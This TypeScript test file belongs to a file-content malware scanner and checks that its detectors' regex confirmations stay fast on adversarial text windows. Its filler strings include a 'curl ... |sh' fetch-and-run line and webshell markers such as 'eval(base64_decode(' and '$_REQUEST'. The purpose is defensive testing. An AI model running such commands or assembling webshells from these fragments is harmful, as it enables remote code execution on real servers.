import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { FileHeader } from '../src/filesystem/file.ts';
import type { ContentPlace, ContentSignal } from '../src/finding/content/content-signal.ts';
import { detectors } from '../src/finding/detectors/index.ts';

const WINDOW = 8_192;
const BEFORE = 2_048;
/** A window that takes longer is tried again: machines have other things to do. */
const LONGEST_MS = 50;
const FILLS = [
  'a',
  '(',
  '()',
  ' ',
  '\t ',
  '\n',
  '"',
  "'",
  '=',
  ' = "',
  'QUJDRGVm',
  '1.2.3.4.',
  '/',
  'a:b',
  '<a ',
  '$a=',
  'a,"b",',
  '\\x41',
  '%41',
  '{"a":',
  'chr(65).',
  'curl http://192.0.2.1/a |sh ',
  '-----',
  'a@b.c ',
  'a(b"c\'d=e f\n',
  '$_REQUEST["a"]',
  'eval(base64_decode("',
];
const FILES = [
  ['srv/www/html/x.php', 'text'],
  ['app/x.sh', 'script'],
  ['root/.env', 'text'],
  ['app/config.json', 'text'],
  ['usr/bin/x', 'elf'],
  ['app/x.js', 'text'],
] as const;

test('no signal takes long over any window of text made for its regular expressions', () => {
  for (const signal of detectors.flatMap((detector) => ('signals' in detector ? detector.signals : []))) {
    const { confirm } = signal;
    const file = fileFor(signal);
    if (!confirm || !file) continue;
    for (const keyword of signal.keywords.slice(0, 12)) {
      for (const fill of FILLS) {
        for (const [text, at] of windows(keyword, fill)) {
          const place = (): ContentPlace => ({ file: { ...file }, text, at, keyword, isStart: false, isEnd: false });
          const fastest = (): number => Math.min(...[0, 1, 2].map(() => milliseconds(() => confirm(place()))));
          const took = milliseconds(() => confirm(place()));
          assert.ok(took < LONGEST_MS || fastest() < LONGEST_MS, `${signal.id}: ${keyword} ${fill}: ${took} ms`);
        }
      }
    }
  }
});

function fileFor({ kinds, in: isIn }: ContentSignal): FileHeader | undefined {
  return FILES.map(([path, kind]): FileHeader => ({ path, kind, type: 'file', size: WINDOW, mode: 0o644 })).find(
    (file) => (kinds?.includes(file.kind) ?? true) && (isIn?.(file) ?? true),
  );
}

/** The keyword in the middle of it, and again and again. */
function windows(keyword: string, fill: string): (readonly [text: string, at: number])[] {
  const run = fill.repeat(Math.ceil(WINDOW / fill.length));
  const pair = `${keyword}${fill}`;
  return [
    [`${run.slice(0, BEFORE)}${keyword}${run}`.slice(0, WINDOW), BEFORE],
    [pair.repeat(Math.ceil(WINDOW / pair.length)).slice(0, WINDOW), Math.floor(BEFORE / pair.length) * pair.length],
    [`${keyword}${run}`.slice(0, WINDOW), 0],
  ];
}

function milliseconds(run: () => unknown): number {
  const started = performance.now();
  run();
  return performance.now() - started;
}
